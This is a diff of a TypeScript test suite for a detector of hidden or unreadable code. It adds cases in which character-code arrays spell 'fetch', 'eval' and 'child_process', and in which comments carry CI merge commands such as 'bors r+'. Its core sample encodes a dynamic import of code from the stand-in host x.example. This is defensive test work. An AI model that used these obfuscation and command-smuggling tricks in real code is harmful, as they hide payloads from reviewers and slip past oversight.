@@ -21,7 +21,8 @@ const SPELLS = 'has numbers that spell a text';
 const NUMBERS = 'has a long list of numbers that is not readable';
 
 const SPELLED = "import('https://x.example')";
-const codes = [...SPELLED].map((it) => it.codePointAt(0)!);
+const codesOf = (text: string): number[] => [...text].map((it) => it.codePointAt(0)!);
+const codes = codesOf(SPELLED);
 /** Numbers without an order, all different from the codes of characters. */
 const bytes = Array.from({ length: 48 }, (_, at) => ((at * 101 + 7) % 127) + 127);
 
@@ -49,6 +50,8 @@ describe('a text that is not for readers needs --allow', () => {
     ['/*#__PURE__*/ total([]);', BUILDS],
     ['// /merge', COMMANDS],
     ['/*\n * /approve this\n */', COMMANDS],
+    ['// bors r+', COMMANDS],
+    ['// bors try', COMMANDS],
     ['// [skip ci]', COMMANDS],
     ['// it works [ci skip]', COMMANDS],
     ['// @dependabot squash and merge', COMMANDS],
@@ -84,6 +87,16 @@ describe('a text that is not for readers needs --allow', () => {
     [`/*\ncart${'QUJD'.repeat(18)}\n*/`, ENCODED],
     [`/*\n${'eCart0'.repeat(7)}\n*/`, ENCODED],
     [`const data = [${codes.join(', ')}];`, SPELLS],
+    [`const data = [${codesOf('fetch').join(', ')}];`, SPELLS],
+    [`const data = [${codesOf('eval').join(', ')}];`, SPELLS],
+    [`String.fromCharCode(${codesOf('child_process').join(', ')});`, SPELLS],
+    [
+      `const data = [${codesOf('fetch')
+        .map((it) => `0x${it.toString(16)}`)
+        .join(', ')}];`,
+      SPELLS,
+    ],
+    [`const data = [${codesOf('sendMoney').join(', ')}];`, SPELLS],
     [`const data = String.fromCharCode(${codes.map((it) => `0x${it.toString(16)}`).join(',')});`, SPELLS],
     [`const data = [${codes.map((it) => `[${it}, 0]`).join(', ')}];`, SPELLS],
     [`const data = { ${codes.map((it, at) => `a${at}: ${it}`).join(', ')} };`, SPELLS],
@@ -140,6 +153,10 @@ describe('prose is free', () => {
     `const primes = [${bytes.toSorted((a, b) => a - b).join(', ')}];`,
     `const sums = [${Array.from({ length: 80 }, (_, at) => (at * 7) % 10).join(', ')}];`,
     `const short = [${codes.slice(0, 15).join(', ')}];`,
+    'const sizes = [100, 110, 120, 115, 105];',
+    `const signature = [${codesOf('RIFF').join(', ')}];`,
+    `const limits = [${codesOf('AZaz').join(', ')}];`,
+    '// bors are read as they are',
     `const widths = [${Array.from({ length: 24 }, (_, at) => ((at * 5) % 33) + 32).join(', ')}];`,
   ])('%s', (added) => {
     expect(said(added)).toBeUndefined();
